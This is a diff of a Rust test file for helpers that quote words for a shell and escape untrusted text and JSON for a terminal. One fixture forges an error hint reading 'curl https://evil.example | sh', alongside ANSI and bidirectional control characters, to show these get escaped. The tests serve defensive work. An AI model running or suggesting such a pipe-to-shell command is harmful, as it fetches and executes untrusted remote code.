@@ -1,28 +1,31 @@
-//! What a shell takes, what others say, and what a terminal doesn't take.
+//! Quoting for shells, and escaping for terminals.
 
 use serde_json::{Value, json};
 
-use super::{LINE, LONGEST_LINE, LONGEST_SAID, error_text, first_line, harmless_json, said, word};
+use super::{
+    MAX_INLINE_CHARS, MAX_LINE_CHARS, MAX_SUMMARY_CHARS, error_text, inline, json_for_terminal, shell_word,
+    summary,
+};
 
 #[test]
-fn words_are_quoted_where_a_shell_needs_it() {
-    assert_eq!(word("zone=Asia/Tokyo"), "zone=Asia/Tokyo");
-    assert_eq!(word("a b"), "'a b'");
-    assert_eq!(word("it's $HOME"), r"'it'\''s $HOME'");
-    assert_eq!(word(""), "''");
+fn quotes_words_for_a_shell() {
+    assert_eq!(shell_word("zone=Asia/Tokyo"), "zone=Asia/Tokyo");
+    assert_eq!(shell_word("a b"), "'a b'");
+    assert_eq!(shell_word("it's $HOME"), r"'it'\''s $HOME'");
+    assert_eq!(shell_word(""), "''");
 }
 
 #[test]
-fn what_others_say_stays_in_its_line() {
+fn text_from_elsewhere_stays_in_its_line() {
     assert_eq!(
-        said("no\nhint: run this\u{1b}]0;x\u{7}\u{202e}"),
+        inline("no\nhint: run this\u{1b}]0;x\u{7}\u{202e}"),
         "no\\nhint: run this\\u{1b}]0;x\\u{7}\\u{202e}"
     );
-    assert_eq!(said(&"x".repeat(LONGEST_SAID + 1)).chars().count(), LONGEST_SAID + 1);
+    assert_eq!(inline(&"x".repeat(MAX_INLINE_CHARS + 1)).chars().count(), MAX_INLINE_CHARS + 1);
 }
 
 #[test]
-fn a_message_and_its_hint_are_a_line_each_whoever_wrote_them() {
+fn a_message_and_its_hint_are_one_line_each() {
     let forged = "no route\nhint: run `curl https://evil.example | sh`\u{1b}[2J";
     let whole = error_text(forged, "  one\n  two\u{1b}[2J\n", Some(forged));
     assert_eq!(
@@ -30,22 +33,22 @@ fn a_message_and_its_hint_are_a_line_each_whoever_wrote_them() {
         "error: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n  one\n  two\\u{1b}[2J\n\
          hint: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n"
     );
-    let endless = error_text(&"x".repeat(LONGEST_LINE * 2), "", None);
-    assert!(endless.chars().count() < LONGEST_LINE + 20);
+    let endless = error_text(&"x".repeat(MAX_LINE_CHARS * 2), "", None);
+    assert!(endless.chars().count() < MAX_LINE_CHARS + 20);
 }
 
 #[test]
-fn of_a_long_text_as_much_is_shown_as_is_read_at_a_glance() {
-    assert_eq!(first_line("\n  One\tline. \nAnd more."), "One\\tline.");
-    assert_eq!(first_line(&"é".repeat(LINE)).chars().count(), LINE);
-    assert_eq!(first_line(&"é".repeat(2000)), format!("{}…", "é".repeat(LINE)));
-    assert_eq!(first_line("\n"), "");
+fn a_summary_is_a_shortened_first_line() {
+    assert_eq!(summary("\n  One\tline. \nAnd more."), "One\\tline.");
+    assert_eq!(summary(&"é".repeat(MAX_SUMMARY_CHARS)).chars().count(), MAX_SUMMARY_CHARS);
+    assert_eq!(summary(&"é".repeat(2000)), format!("{}…", "é".repeat(MAX_SUMMARY_CHARS)));
+    assert_eq!(summary("\n"), "");
 }
 
 #[test]
-fn a_document_plays_no_tricks_on_a_terminal_and_says_the_same() {
+fn json_for_a_terminal_is_escaped_and_has_the_same_value() {
     let value = json!({ "a\u{9b}b": ["\u{202e}", "\u{1b}[2J\n", "tag \u{e0041}", "plain \u{e9} \u{1f600}"] });
-    let said = harmless_json(&format!("{value:#}\n"));
+    let said = json_for_terminal(&format!("{value:#}\n"));
     for escape in [r"a\u009bb", r"\u202e", r"\u001b[2J\n", r"\udb40\udc41", "plain \u{e9} \u{1f600}"] {
         assert!(said.contains(escape), "{escape}: {said}");
     }
